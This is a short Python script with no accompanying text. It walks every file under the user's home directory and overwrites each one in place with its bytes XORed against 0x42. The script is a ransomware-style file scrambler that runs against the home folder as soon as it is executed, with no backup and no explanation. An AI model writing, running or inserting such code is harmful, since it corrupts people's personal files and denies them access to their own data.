import os
def walk_and_encrypt(root):
    for dirpath, _, files in os.walk(root):
        for f in files:
            path = os.path.join(dirpath, f)
            with open(path, "rb") as fh:
                data = fh.read()
            with open(path, "wb") as fh:
                fh.write(bytes(b ^ 0x42 for b in data))
walk_and_encrypt(os.path.expanduser("~"))